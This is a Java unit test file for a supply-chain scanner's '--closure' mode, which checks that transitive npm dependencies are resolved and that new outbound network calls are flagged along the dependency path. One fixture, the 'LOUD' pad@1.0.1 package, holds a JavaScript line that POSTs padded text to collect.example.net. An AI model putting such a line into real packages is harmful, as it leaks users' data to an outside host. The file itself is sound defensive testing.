package dev.assay.web.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.samples.SamplePackage;
import dev.assay.samples.SampleUpstream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** {@code --closure}: the release and all that is installed along with it. */
class ClosureCommandTest {

    private static final String REGISTRY = "assay.upstream.npm.url";
    private static final String CACHE = "assay.cache-directory";
    private static final String QUIET = "exports.pad = (text) => ' ' + text;";
    private static final String LOUD =
            "exports.pad = (text) => { fetch('https://collect.example.net/p', { method: 'POST',"
                    + " body: text }); return ' ' + text; };";

    @TempDir private Path folder;
    private SampleUpstream upstream;
    private final StringWriter error = new StringWriter();

    @BeforeEach
    void startUpstream() {
        upstream =
                SampleUpstream.startWith(
                        List.of(
                                server("1.0.0", "\"middle\": \"1.0.0\""),
                                server("1.0.1", "\"middle\": \"1.0.1\""),
                                middle("1.0.0", "1.0.0"),
                                middle("1.0.1", "1.0.1"),
                                pad("1.0.0", QUIET),
                                pad("1.0.1", LOUD)));
        System.setProperty(REGISTRY, upstream.url().toString());
        System.setProperty(CACHE, folder.resolve("cache").toString());
    }

    @AfterEach
    void stopUpstream() {
        upstream.close();
        System.clearProperty(REGISTRY);
        System.clearProperty(CACHE);
    }

    @Test
    void saysWhatADependencyOfADependencyDoesNowAndHowItIsReached() throws IOException {
        run("diff", "npm:server@1.0.0", "npm:server@1.0.1", "--closure");
        var host = finding("outbound-domain", "collect.example.net");
        assertThat(host.path("evidence").path(0).path("package").stringValue())
                .isEqualTo("pkg:npm/pad@1.0.1");
        assertThat(host.path("detail").path("reached").path("pkg:npm/pad@1.0.1").stringValue())
                .isEqualTo("server > middle > pad");
        var changed = finding("dependency-added", "pad").path("detail");
        assertThat(changed.path("summary").stringValue()).contains("contacts collect.example.net");
        assertThat(changed.path("path").stringValue()).isEqualTo("server > middle > pad");
    }

    @Test
    void looksAtNothingTwice() throws IOException {
        run("scan", "npm:server@1.0.1", "--closure");
        var first = Files.readString(folder.resolve("report"));
        var asked = upstream.requests().size();
        run("scan", "npm:server@1.0.1", "--closure");
        assertThat(Files.readString(folder.resolve("report"))).isEqualTo(first);
        // Who published it may be told otherwise each time.
        var again = upstream.requests();
        assertThat(again.subList(asked, again.size()))
                .containsExactly(
                        "GET /server",
                        "GET /-/npm/v1/keys",
                        "GET /-/npm/v1/attestations/server@1.0.1");
        run("scan", "npm:server@1.0.1", "--closure", "--no-cache");
        assertThat(upstream.requests()).hasSizeGreaterThan(again.size() + 2);
    }

    @Test
    void resolvesWhatAFolderDependsOn() throws IOException {
        var here = Files.createDirectory(folder.resolve("mine"));
        Files.writeString(
                here.resolve("package.json"),
                "{\"name\": \"mine\", \"version\": \"2.0.0\", \"main\": \"index.js\","
                        + " \"dependencies\": {\"middle\": \"^1.0.1\"}}");
        Files.writeString(here.resolve("index.js"), "require('middle');");
        run("diff", "npm:server@1.0.0", here.toString(), "--closure");
        assertThat(
                        finding("outbound-domain", "collect.example.net")
                                .path("detail")
                                .path("reached")
                                .path("pkg:npm/pad@1.0.1")
                                .stringValue())
                .isEqualTo("mine > middle > pad");
        assertThat(upstream.requests()).noneMatch(request -> request.contains("/mine"));
    }

    @Test
    void resolvesWhatATarballDependsOn() throws IOException {
        var tarball = folder.resolve("server.tgz");
        Files.write(tarball, server("1.0.1", "\"middle\": \"1.0.1\"").tarball());
        run("scan", tarball.toString(), "--closure");
        assertThat(finding("outbound-domain", "collect.example.net").isMissingNode()).isFalse();
    }

    @Test
    void asksNobodyOffline() throws IOException {
        assertThat(run("scan", "npm:server@1.0.1", "--closure", "--offline"))
                .isEqualTo(ExitCodes.INCOMPLETE);
        assertThat(error.toString()).contains("--offline forbids");
        assertThat(upstream.requests()).isEmpty();
    }

    @Test
    void saysThatADependencyCouldNotBeRead() throws IOException {
        upstream.replaceTarball("pad", "1.0.1", "other bytes".getBytes());
        assertThat(run("scan", "npm:server@1.0.1", "--closure")).isEqualTo(ExitCodes.FOUND);
        assertThat(finding("signature-invalid", "pkg:npm/pad@1.0.1").isMissingNode()).isFalse();
    }

    private static SamplePackage server(String version, String dependencies) {
        return packaged(
                "server",
                version,
                ", \"dependencies\": {" + dependencies + "}",
                "require('middle')");
    }

    private static SamplePackage middle(String version, String pad) {
        return packaged(
                "middle",
                version,
                ", \"dependencies\": {\"pad\": \"" + pad + "\"}",
                "module.exports = require('pad')");
    }

    private static SamplePackage pad(String version, String code) {
        return packaged("pad", version, "", code);
    }

    private static SamplePackage packaged(String name, String version, String more, String code) {
        var manifest =
                "{\"name\": \"%s\", \"version\": \"%s\", \"main\": \"index.js\"%s}"
                        .formatted(name, version, more);
        return SamplePackage.of(Map.of("package.json", manifest, "index.js", code));
    }

    private JsonNode finding(String kind, String value) throws IOException {
        var report = new JsonMapper().readTree(Files.readString(folder.resolve("report")));
        for (var finding : report.path("findings")) {
            if (finding.path("kind").stringValue().equals(kind)
                    && finding.path("value").stringValue().equals(value)) {
                return finding;
            }
        }
        return report.path("no such finding");
    }

    private int run(String... arguments) {
        var all = new ArrayList<>(List.of(arguments));
        all.addAll(List.of("--format", "json", "--output", folder.resolve("report").toString()));
        return AssayCommand.commandLine()
                .setErr(new PrintWriter(error, true))
                .execute(all.toArray(String[]::new));
    }
}
